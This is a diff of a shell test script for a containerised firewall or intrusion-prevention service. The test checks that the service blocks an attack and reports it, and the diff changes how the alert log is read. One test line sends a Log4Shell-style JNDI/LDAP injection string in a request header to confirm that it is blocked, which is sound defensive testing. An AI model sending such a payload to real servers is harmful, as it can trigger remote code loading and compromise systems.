@@ -113,7 +113,8 @@ page() { from_inside curl -sS --max-time 5 http://10.77.0.2:8080/ | grep -q 'thr
 blocked() {
   fails 'curl: (\(28\|52\|56\))' from_inside curl -sS --max-time 3 -H 'X-Api-Version: ${jndi:ldap://10.77.0.1/a}' http://10.77.0.2:8080/ || return 1
   sleep 0.5
-  $engine exec "$container" grep -h '"event_type":"alert"' /var/log/drawbridge/eve.json | grep '"action":"blocked"'
+  # Through /proc: root without DAC_OVERRIDE, as `exec` would start grep, cannot read the file of user node.
+  grep -h '"event_type":"alert"' "/proc/$(pid)/root/var/log/drawbridge/eve.json" | grep '"action":"blocked"'
 }
 metrics() {
   in_container curl -sS --max-time 5 http://127.0.0.1:9464/metrics >"$work/metrics"
@@ -126,7 +127,7 @@ healthy() {
     *) for _ in $(seq 40); do [ "$($engine inspect -f '{{.State.Health.Status}}' "$container")" = healthy ] && return 0; sleep 1; done; return 1 ;;
   esac
 }
-stops() { $engine stop -t 8 "$container" >/dev/null && [ "$($engine inspect -f '{{.State.ExitCode}}' "$container")" = 0 ] && $engine logs "$container" | grep -q '^DONE$'; }
+stops() { $engine stop -t 8 "$container" >/dev/null 2>&1 && [ "$($engine inspect -f '{{.State.ExitCode}}' "$container")" = 0 ] && $engine logs "$container" | grep -q '^DONE$'; }
 scenario() { # NAME UID FLAGS...
   local name=$1 uid=$2
   shift 2
@@ -140,7 +141,7 @@ scenario() { # NAME UID FLAGS...
   check "$name: an attack does not, and is reported" blocked
   check "$name: metrics answer" metrics
   check "$name: stops in order on SIGTERM" stops
-  $engine rm -f -v "$container" >/dev/null
+  $engine rm -f -v "$container" >/dev/null 2>&1
   container=''
 }
 
